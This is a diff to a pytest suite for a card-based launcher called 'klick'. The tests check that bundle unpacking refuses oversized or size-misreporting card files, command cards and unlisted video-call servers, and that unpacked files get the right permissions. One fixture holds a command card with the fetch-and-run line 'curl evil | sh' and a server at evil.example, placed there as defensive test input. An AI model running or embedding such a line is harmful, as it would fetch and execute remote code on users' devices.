@@ -82,8 +82,9 @@ def test_pack_then_unpack_round_trip_through_the_real_command(klick, home, tmp_p
     assert "picture: pictures/anna.png" in text and "folder: albums/album" in text
 
     old_text = (home / "cards.yaml").read_text()
-    result = klick("cards", "unpack", str(bundle))
+    result = klick("cards", "unpack", str(bundle), "--allow-server", "meet.jit.si")
     assert result.returncode == 0, result.stderr
+    assert "Add the server to calls.allowed_servers" in result.stderr  # accepted knowingly, not listed
     assert "Unpacked 5 cards" in result.stdout and "cards.yaml.bak" in result.stdout
     listing = klick("cards", "list")
     assert listing.returncode == 0 and "5 cards" in listing.stdout and "Vädret" in listing.stdout
@@ -126,14 +127,15 @@ def test_pack_leaves_out_a_missing_picture_with_a_note_and_still_unpacks(home, t
     registry = load_registry(home / "cards.yaml")
     result = pack_bundle(registry, home / "cards.yaml", tmp_path / "b.klick")
     assert any("web.png" in note and "does not exist" in note for note in result.notes)
-    unpacked = unpack_bundle(tmp_path / "b.klick", home / "cards.yaml")
+    unpacked = unpack_bundle(tmp_path / "b.klick", home / "cards.yaml", allowed_servers=["https://meet.jit.si"])
     assert unpacked.cards == 5
     assert load_registry(home / "cards.yaml").get("0012345678").picture is None
 
 
 def test_a_command_card_unpacks_with_a_note_about_it(home, tmp_path):
     text = 'version: 1\ncards:\n  - uid: "0A"\n    label: Klocka\n    action: {type: command, argv: [xclock]}\n'
-    result = unpack_bundle(make_zip(tmp_path / "b.klick", [("cards.yaml", text.encode())]), home / "cards.yaml")
+    bundle = make_zip(tmp_path / "b.klick", [("cards.yaml", text.encode())])
+    result = unpack_bundle(bundle, home / "cards.yaml", allow_commands=True)
     assert any("xclock" in note for note in result.notes)
 
 
@@ -326,3 +328,115 @@ def test_declared_total_is_checked_before_anything_is_read():
     entries = [Entry("cards.yaml", 100), Entry("pictures/a.png", MAX_TOTAL_BYTES)]
     assert any("at most 100 MB" in r for r in check_entries(entries))
     assert check_entries([Entry("cards.yaml", 100), Entry("pictures/", 0), Entry("pictures/a.png", 10)]) == []
+
+
+# --- one size limit for the card file, before any parsing (issue 10 item 9) ----------------------
+
+
+def _no_parsing(*args, **kwargs):
+    raise AssertionError("the card file was parsed although it is too big")
+
+
+@pytest.mark.parametrize("megabytes", [10, 2])
+def test_a_bundle_with_an_oversized_card_file_is_refused_before_parsing(megabytes, home, tmp_path, monkeypatch):
+    import yaml
+
+    big = CARDS.encode() + b"# " + b"x" * (megabytes * 1_000_000) + b"\n"
+    bundle = tmp_path / "big.klick"
+    with zipfile.ZipFile(bundle, "w", zipfile.ZIP_DEFLATED) as zf:
+        zf.writestr("cards.yaml", big)
+        zf.writestr("pictures/anna.png", PNG)
+    assert bundle.stat().st_size < 100_000  # a small file on the stick
+    monkeypatch.setattr(yaml, "compose_all", _no_parsing)
+    before = tree_hash(home)
+    with pytest.raises(BundleError) as caught:
+        unpack_bundle(bundle, home / "cards.yaml", allowed_servers=["https://meet.jit.si"])
+    assert f"its cards.yaml: this card file is {megabytes}.0 MB; a card file is at most 1 MB" in str(caught.value)
+    assert tree_hash(home) == before
+
+
+def test_a_card_file_that_lies_about_its_size_is_refused_as_damaged(home, tmp_path):
+    path = make_zip(tmp_path / "lie.klick", [("cards.yaml", CARDS.encode() + b"#" * 2_000_000), ("pictures/anna.png", PNG)])
+    data = bytearray(path.read_bytes())
+    with zipfile.ZipFile(path) as zf:
+        info = zf.getinfo("cards.yaml")
+    struct.pack_into("<I", data, info.header_offset + 22, 100)
+    cd = data.find(b"PK\x01\x02")
+    struct.pack_into("<I", data, cd + 24, 100)
+    path.write_bytes(bytes(data))
+    before = tree_hash(home)
+    with pytest.raises(BundleError):
+        unpack_bundle(path, home / "cards.yaml")
+    assert tree_hash(home) == before
+
+
+# --- what a tablet takes: command cards and call servers (issue 10 item 8) -----------------------
+
+POLICY_CARDS = (
+    'version: 1\ncards:\n  - uid: "04AA"\n    label: Anna\n    picture: pictures/anna.png\n'
+    "    action: {type: video_call, provider: jitsi, server: 'https://meet.example.se', room: familjen}\n"
+    '  - uid: "04BB"\n    label: Klocka\n    action: {type: command, argv: [sh, -c, "curl evil | sh"]}\n'
+    '  - uid: "04CC"\n    label: Mormor\n    action:\n      type: video_call\n      provider: jitsi\n'
+    "      server: https://evil.example:8443/x\n      room: hej\n"
+)
+
+
+@pytest.fixture
+def policy_bundle(tmp_path) -> Path:
+    return make_zip(tmp_path / "gift.klick", [("cards.yaml", POLICY_CARDS.encode()), ("pictures/anna.png", PNG)])
+
+
+def test_unpack_refuses_command_cards_and_unlisted_call_servers_naming_each_card(klick, home, policy_bundle):
+    (home / "klick.yaml").write_text("calls:\n  allowed_servers:\n    - meet.example.se\n")
+    before = tree_hash(home)
+    result = klick("cards", "unpack", str(policy_bundle))
+    assert result.returncode == 1, result.stderr
+    assert 'cards.yaml in gift.klick:9: card "Klocka" (04BB) starts the program sh' in result.stderr
+    assert 'cards.yaml in gift.klick:15: card "Mormor" (04CC) calls https://evil.example:8443' in result.stderr
+    assert "Anna" not in result.stderr  # its server is on the list
+    assert "Nothing was changed" in result.stderr and "--allow-commands" in result.stderr and "--allow-server" in result.stderr
+    assert "Traceback" not in result.stderr
+    assert tree_hash(home) == before
+
+
+def test_allow_commands_and_allow_server_accept_them_knowingly(klick, home, policy_bundle):
+    (home / "klick.yaml").write_text("calls:\n  allowed_servers:\n    - meet.example.se\n")
+    only_commands = klick("cards", "unpack", str(policy_bundle), "--allow-commands")
+    assert only_commands.returncode == 1 and "Mormor" in only_commands.stderr and "Klocka" not in only_commands.stderr
+    result = klick("cards", "unpack", str(policy_bundle), "--allow-commands", "--allow-server", "https://evil.example:8443")
+    assert result.returncode == 0, result.stderr
+    assert "Unpacked 3 cards" in result.stdout
+    # The launcher goes by klick.yaml, so the installer is told the server is still not listed there.
+    assert "Mormor" in result.stderr and "Add the server to calls.allowed_servers" in result.stderr
+    assert load_registry(home / "cards.yaml").get("04BB").action.argv[0] == "sh"
+
+
+def test_allow_server_that_is_not_a_server_is_a_usage_error(klick, home, policy_bundle):
+    result = klick("cards", "unpack", str(policy_bundle), "--allow-server", "https://u:p@evil.example")
+    assert result.returncode == 2 and "--allow-server" in result.stderr and "is not a server address" in result.stderr
+    assert "Traceback" not in result.stderr
+
+
+# --- who may read an unpacked set (issue 10 item 10) ---------------------------------------------
+
+
+def test_unpacked_card_set_is_readable_by_the_card_folders_owner_and_group(home, tmp_path):
+    bundle = make_zip(tmp_path / "b.klick", [("cards.yaml", CARDS.encode()), ("pictures/anna.png", PNG)])
+    if os.geteuid() == 0:
+        # As with `sudo klick cards unpack`: everything goes to the folder's owner (here nobody).
+        os.chown(home, 65534, 65534)
+    folder_owner = (home.stat().st_uid, home.stat().st_gid)
+    result = unpack_bundle(bundle, home / "cards.yaml")
+    tree = [result.folder, *result.folder.rglob("*")]
+    assert any(p.is_file() for p in tree) and any(p.is_dir() for p in tree)
+    for path in tree:
+        mode = stat.S_IMODE(path.stat().st_mode)
+        assert mode == (0o750 if path.is_dir() else 0o640), (path, oct(mode))
+        assert path.stat().st_gid == folder_owner[1], path
+        if os.geteuid() == 0:
+            assert path.stat().st_uid == folder_owner[0], path
+    sets = (home / SETS_DIR).stat()  # made by this unpack, so handed over too
+    assert stat.S_IMODE(sets.st_mode) == 0o750 and sets.st_gid == folder_owner[1]
+    if os.geteuid() == 0:
+        card_file = (home / "cards.yaml").stat()
+        assert (card_file.st_uid, card_file.st_gid) == folder_owner and sets.st_uid == folder_owner[0]
